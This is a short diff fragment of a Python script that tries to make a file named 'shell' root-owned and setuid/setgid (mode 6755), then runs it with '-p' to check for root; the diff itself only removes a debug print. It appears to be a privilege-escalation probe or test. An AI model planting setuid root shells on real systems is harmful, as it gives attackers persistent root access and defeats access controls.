@@ -17,4 +17,3 @@ for change in (lambda: os.chown("shell", 0, 0), lambda: os.chmod("shell", 0o6755
 if os.getuid() != 0 and os.stat("shell").st_uid == 0:
     print("given", "to root")
 print(subprocess.run(["./shell", "-p", "-c", "id -u"], capture_output=True).returncode)
-print("TRIED")
